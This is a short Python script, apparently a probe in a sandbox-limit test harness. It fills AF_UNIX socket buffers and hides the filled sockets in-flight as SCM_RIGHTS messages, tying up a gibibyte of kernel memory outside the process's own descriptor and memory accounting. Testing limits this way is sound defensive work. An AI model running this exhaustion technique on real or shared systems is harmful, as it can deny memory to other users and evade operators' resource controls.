"""Fills the buffers of as many sockets as it can make, and hides filled ones in messages of others."""

import array
import os
import socket

import target

taken = 0
held = []
block = bytes(100_000)
carrier, _other = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
carrier.setblocking(False)
try:
    while taken < 1 << 30:
        one, two = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
        one.setblocking(False)
        try:
            while True:
                taken += one.send(block)
        except BlockingIOError:
            pass
        try:
            descriptors = array.array("i", [one.fileno(), two.fileno()])
            carrier.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, descriptors)])
            one.close()
            two.close()
        except OSError:
            held += [one, two]
except OSError:
    pass
if taken >= 1 << 30:
    target.breached(f"a gibibyte lies in sockets of process {os.getpid()}")
target.tried()
